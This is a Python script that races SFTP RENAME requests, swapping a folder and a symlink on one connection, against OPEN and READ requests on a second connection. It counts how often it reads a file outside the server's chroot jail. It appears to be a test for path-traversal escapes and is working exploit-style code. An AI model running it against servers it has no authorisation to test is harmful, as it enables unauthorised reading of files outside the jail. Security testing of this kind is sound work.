#!/usr/bin/python3
"""A client that races against the jail: one connection swaps a folder and a link by RENAME as fast as it can, a second one opens a
file by way of them and reads what it gets. Prints how often that was the file outside, whose content is "outside".

usage: sftp_race.py OPENS MOVED OPENED SSH-COMMAND...
OPENED is below /x, which is a folder, or in turn what else is called MOVED. The command leads to an SFTP server.
"""
import collections
import itertools
import struct
import subprocess
import sys
import threading

INIT, OPEN, CLOSE, READ, RENAME = 1, 3, 4, 5, 18
STATUS, HANDLE, DATA = 101, 102, 103
FOR_READING = 1
AT_ONCE = 32
ENOUGH_RENAMES = 100


def string(value):
    return struct.pack(">I", len(value)) + value


def first_string(body):
    return body[4:4 + int.from_bytes(body[:4], "big")]


class Sftp:
    """Frames to and from an SFTP server."""

    def __init__(self, command):
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self._ids = itertools.count()
        self._waiting = b""
        self._queue(INIT, struct.pack(">I", 3))
        self._flush()
        self._receive()

    def ask(self, requests):
        """Answers of all (type, body), in their order: (type, body)."""
        ids = []
        for kind, body in requests:
            ids.append(next(self._ids))
            self._queue(kind, struct.pack(">I", ids[-1]) + body)
        self._flush()
        answers = {}
        while len(answers) < len(ids):
            kind, body = self._receive()
            answers[int.from_bytes(body[:4], "big")] = kind, body[4:]
        return [answers[number] for number in ids]

    def close(self):
        self.process.stdin.close()
        self.process.wait()

    def _queue(self, kind, body):
        self._waiting += struct.pack(">IB", 1 + len(body), kind) + body

    def _flush(self):
        self.process.stdin.write(self._waiting)
        self.process.stdin.flush()
        self._waiting = b""

    def _receive(self):
        frame = self._exactly(int.from_bytes(self._exactly(4), "big"))
        return frame[0], frame[1:]

    def _exactly(self, size):
        got = self.process.stdout.read(size)
        if len(got) < size:
            raise SystemExit("sftp_race: the session has ended")
        return got


def swap(sftp, moved, enough, done):
    """Until `enough`; counts in `done` how many RENAMEs went well."""
    renames = [(b"/x", b"/parked"), (moved, b"/x"), (b"/x", moved), (b"/parked", b"/x")]
    requests = [(RENAME, string(old) + string(new)) for old, new in renames] * (AT_ONCE // 4)
    while not enough.is_set():
        done.update("well" if int.from_bytes(body[:4], "big") == 0 else "refused" for _, body in sftp.ask(requests))


def open_and_read(sftp, path, times, renames):
    """How often each outcome was had: the content that was read, or `refused`. At least so many times, and until there was a race."""
    outcomes = collections.Counter()
    opens = [(OPEN, string(path) + struct.pack(">II", FOR_READING, 0))] * AT_ONCE
    while outcomes["opens"] < times or renames["well"] < ENOUGH_RENAMES or not outcomes["inside"]:
        answers = sftp.ask(opens)
        outcomes["opens"] += len(answers)
        handles = [first_string(body) for kind, body in answers if kind == HANDLE]
        outcomes["refused"] += len(answers) - len(handles)
        contents = sftp.ask([(READ, string(handle) + struct.pack(">QI", 0, 64)) for handle in handles])
        outcomes.update(first_string(body).decode().strip() if kind == DATA else "unread" for kind, body in contents)
        sftp.ask([(CLOSE, string(handle)) for handle in handles])
    return outcomes


def main():
    opens, moved, opened, *command = sys.argv[1:]
    renames, enough = collections.Counter(), threading.Event()
    swapping, opening = Sftp(command), Sftp(command)
    swapper = threading.Thread(target=swap, args=(swapping, moved.encode(), enough, renames), daemon=True)
    swapper.start()
    outcomes = open_and_read(opening, opened.encode(), int(opens), renames)
    enough.set()
    swapper.join()
    swapping.close()
    opening.close()
    print(f"opens {outcomes['opens']} inside {outcomes['inside']} refused {outcomes['refused']} leaks {outcomes['outside']} "
          f"renames {renames['well']} renames-refused {renames['refused']}")


main()
